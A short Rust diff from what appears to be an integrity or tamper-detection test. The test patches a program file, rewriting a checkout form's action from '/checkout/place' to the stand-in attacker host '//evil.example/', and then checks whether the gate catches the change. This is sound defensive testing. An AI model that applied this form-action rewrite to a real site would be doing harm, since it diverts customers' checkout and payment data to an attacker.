@@ -38,7 +38,7 @@ pub(crate) const WAYS: &[Way] = &[
 
 /// Every page of the program is part of it: a copy with one of them changed is asked what the gate asks at its start.
 fn patched(house: &House) -> Result<Outcome> {
-    let (from, to) = (b"action=\"/checkout/place\"", b"action=\"//evil.example/c\"");
+    let (from, to) = (b"action=\"/checkout/place\"", b"action=\"//evil.example/\"");
     ensure!(from.len() == to.len(), "not of one length");
     let mut bytes = fs::read(house.program()).context("cannot read the program")?;
     let places: Vec<usize> =
